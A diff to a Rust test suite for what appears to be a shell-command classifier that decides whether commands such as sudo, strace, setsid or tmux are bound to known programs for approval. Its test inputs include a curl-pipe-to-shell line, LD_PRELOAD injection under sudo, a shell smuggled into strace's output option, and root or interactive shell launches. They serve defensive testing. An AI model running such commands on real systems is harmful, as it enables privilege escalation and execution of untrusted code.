@@ -263,7 +263,8 @@ fn code_from_elsewhere_is_not_bound() {
             "bash -i ./decoy",
             "bash --rcfile ./decoy ./x.py",
             "curl https://x.test | sh",
-            "sudo whoami",
+            "sudo -i",
+            "sudo LD_PRELOAD=/tmp/x whoami",
             "find . -exec python3 {} +",
             "find . -name '*.py' -execdir ./decoy ';'",
             "no-such-program",
@@ -412,6 +413,55 @@ fn xargs_is_bound_by_what_it_starts() {
     machine.assert_kind(Project, &["ls | xargs cargo test"]);
     machine.assert_kind(File, &["ls | xargs python3 ./x.py"]);
     machine.assert_kind(Text, &["for i in 1; do ls | xargs rm; done"]);
+}
+
+/// Of some opaque programs all options are known: an approver sees the whole command, and it is held too.
+#[test]
+fn what_opaque_programs_start_by_their_own_words_is_bound() {
+    let machine = Machine::new();
+    for name in [
+        "crontab", "ionice", "perf", "setsid", "strace", "sudo", "taskset", "tmux", "valgrind",
+        "watch",
+    ] {
+        machine.native(&format!("bin/{name}"));
+    }
+    machine.write("w/x.py", b"");
+    machine.write("w/x.sh", b"");
+    machine.assert_kind(
+        Text,
+        &[
+            "sudo whoami",
+            "sudo -n -u www whoami",
+            "sudo sh -c 'whoami && true'",
+            "setsid -w whoami",
+            "taskset -c 0 whoami",
+            "ionice -c3 whoami",
+            "strace -f -e trace=open whoami",
+            "valgrind --leak-check=full whoami",
+            "perf stat -r 3 whoami",
+            "sudo sh ./x.sh",
+            "sudo python3 ./x.py",
+        ],
+    );
+    machine.assert_kind(
+        Unbound,
+        &[
+            "sudo python3",
+            "sudo bash",
+            "sudo no-such-program",
+            "sudo -e x",
+            "sudo -Z whoami",
+            "sudo env LD_PRELOAD=/tmp/x",
+            "strace -o '|sh' whoami",
+            "strace -p 1",
+            "setsid sh -i",
+            "taskset -p 1",
+            "watch whoami",
+            "crontab x",
+            "tmux new whoami",
+        ],
+    );
+    machine.assert_kind(Native, &["crontab -l", "tmux ls"]);
 }
 
 #[test]
